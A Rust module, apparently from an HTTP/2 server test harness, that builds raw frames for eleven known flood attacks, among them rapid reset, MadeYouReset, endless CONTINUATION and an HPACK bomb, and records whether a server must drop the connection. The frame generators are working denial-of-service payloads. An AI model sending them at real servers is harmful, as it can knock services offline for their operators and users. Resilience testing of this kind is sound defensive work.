//! The floods.
use crate::http2::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, LARGEST_WINDOW,
    NO_FLAGS, PING, PRIORITY, RST_STREAM, frame, settings, window_update,
};
use crate::http2::hpack::{self, NEWEST, indexed, literal, stored};

/// What a client sends that means no good.
#[derive(Debug)]
pub(super) struct Flood {
    pub(super) name: &'static str,
    /// Whether the server must end the connection. What costs it nothing it may bear.
    pub(super) must_end: bool,
    pub(super) settings: &'static [(u16, u32)],
    /// What is sent once: takes the authority, appends frames, says how many.
    pub(super) opening: fn(&str, &mut Vec<u8>) -> u32,
    /// What is sent again and again, with the number of the step.
    pub(super) step: fn(&str, u32, &mut Vec<u8>) -> u32,
}

const PLAIN: Flood = Flood {
    name: "",
    must_end: true,
    settings: &[(INITIAL_WINDOW_SIZE, LARGEST_WINDOW)],
    opening: |_, _| 0,
    step: |_, _, _| 0,
};

/// The nine of which advisories tell, and two that a server may bear.
pub(super) const FLOODS: &[Flood] = &[
    Flood { name: "rapid reset", step: rapid_reset, ..PLAIN },
    Flood { name: "MadeYouReset, by a window too wide", step: made_you_reset, ..PLAIN },
    Flood { name: "CONTINUATION without an end", opening: open_headers, step: go_on, ..PLAIN },
    Flood { name: "empty DATA", opening: open_body, step: empty_data, ..PLAIN },
    Flood { name: "DATA of one byte", opening: open_body, step: tiny_data, ..PLAIN },
    Flood { name: "HPACK bomb", opening: store_header, step: bomb, ..PLAIN },
    Flood { name: "PING", step: ping, ..PLAIN },
    Flood { name: "SETTINGS", step: more_settings, ..PLAIN },
    Flood {
        name: "streams without a window",
        settings: &[(INITIAL_WINDOW_SIZE, 0)],
        step: windowless_stream,
        ..PLAIN
    },
    Flood { name: "WINDOW_UPDATE", must_end: false, step: widen, ..PLAIN },
    Flood { name: "PRIORITY", must_end: false, step: reorder, ..PLAIN },
];

/// The stream of the opening.
const FIRST: u32 = 1;
const CANCEL: u32 = 0x8;
/// With the 32 bytes that each entry is taken to have more, it fills a table of the usual size.
const LARGE: [u8; 4000] = [b'x'; 4000];
const REFERENCES: u32 = 4000;

fn stream(step: u32) -> u32 {
    FIRST + 2 + 2 * step
}

/// A whole request without a body.
fn get(path: &str, authority: &str, stream: u32, out: &mut Vec<u8>) {
    let block = hpack::request("GET", path, authority);
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &block, out);
}

/// CVE-2023-44487: each request is taken back at once.
fn rapid_reset(authority: &str, step: u32, out: &mut Vec<u8>) -> u32 {
    get("/", authority, stream(step), out);
    frame(RST_STREAM, NO_FLAGS, stream(step), &CANCEL.to_be_bytes(), out);
    2
}

/// CVE-2025-8671: each request is followed by a mistake that concerns its stream alone, so that the server resets it.
fn made_you_reset(authority: &str, step: u32, out: &mut Vec<u8>) -> u32 {
    get("/slow?ms=1000", authority, stream(step), out);
    window_update(stream(step), LARGEST_WINDOW, out);
    2
}

fn open_headers(authority: &str, out: &mut Vec<u8>) -> u32 {
    frame(HEADERS, END_STREAM, FIRST, &hpack::request("GET", "/", authority), out);
    1
}

/// RUSTSEC-2024-0332: a block of headers that never ends.
fn go_on(_: &str, step: u32, out: &mut Vec<u8>) -> u32 {
    let mut block = Vec::new();
    literal(format!("x-{step}").as_bytes(), b"more to come", &mut block);
    frame(CONTINUATION, NO_FLAGS, FIRST, &block, out);
    1
}

fn open_body(authority: &str, out: &mut Vec<u8>) -> u32 {
    frame(HEADERS, END_HEADERS, FIRST, &hpack::request("POST", "/echo", authority), out);
    // The answer must not wait for us.
    window_update(0, LARGEST_WINDOW - 65_535, out);
    2
}

fn empty_data(_: &str, _: u32, out: &mut Vec<u8>) -> u32 {
    frame(DATA, NO_FLAGS, FIRST, b"", out);
    1
}

fn tiny_data(_: &str, _: u32, out: &mut Vec<u8>) -> u32 {
    frame(DATA, NO_FLAGS, FIRST, b"x", out);
    1
}

fn store_header(authority: &str, out: &mut Vec<u8>) -> u32 {
    let mut block = hpack::request("GET", "/", authority);
    stored(b"x-bomb", &LARGE, &mut block);
    frame(HEADERS, END_HEADERS | END_STREAM, FIRST, &block, out);
    1
}

/// Each block is small, and is a thousand times as large when it has been read.
fn bomb(authority: &str, step: u32, out: &mut Vec<u8>) -> u32 {
    let mut block = hpack::request("GET", "/", authority);
    for _ in 0..REFERENCES {
        indexed(NEWEST, &mut block);
    }
    frame(HEADERS, END_HEADERS | END_STREAM, stream(step), &block, out);
    1
}

/// CVE-2019-9512: each wants an answer.
fn ping(_: &str, step: u32, out: &mut Vec<u8>) -> u32 {
    frame(PING, NO_FLAGS, 0, &u64::from(step).to_be_bytes(), out);
    1
}

/// CVE-2019-9515: each wants an answer.
fn more_settings(_: &str, _: u32, out: &mut Vec<u8>) -> u32 {
    settings(&[], out);
    1
}

/// CVE-2019-9517 and more streams than may be open: answers that can never be sent.
fn windowless_stream(authority: &str, step: u32, out: &mut Vec<u8>) -> u32 {
    get("/stream?bytes=100000", authority, stream(step), out);
    1
}

fn widen(_: &str, _: u32, out: &mut Vec<u8>) -> u32 {
    window_update(0, 1, out);
    1
}

/// CVE-2019-9513: streams that are never opened are put in order.
fn reorder(_: &str, step: u32, out: &mut Vec<u8>) -> u32 {
    let [a, b, c, d] = FIRST.to_be_bytes();
    frame(PRIORITY, NO_FLAGS, stream(step), &[a, b, c, d, 16], out);
    1
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::http2::frames::take_frame;

    #[test]
    fn every_flood_says_how_many_frames_it_sends() {
        for flood in FLOODS {
            let mut bytes = Vec::new();
            let mut said = (flood.opening)("a", &mut bytes);
            said += (0..3).map(|step| (flood.step)("a", step, &mut bytes)).sum::<u32>();
            let mut frames = 0;
            while let Some(frame) = take_frame(&mut bytes) {
                assert!(frame.payload.len() <= 16_384, "{}", flood.name);
                frames += 1;
            }
            assert_eq!(frames, said, "{}", flood.name);
            assert!(bytes.is_empty() && said >= 3, "{}", flood.name);
        }
    }
}
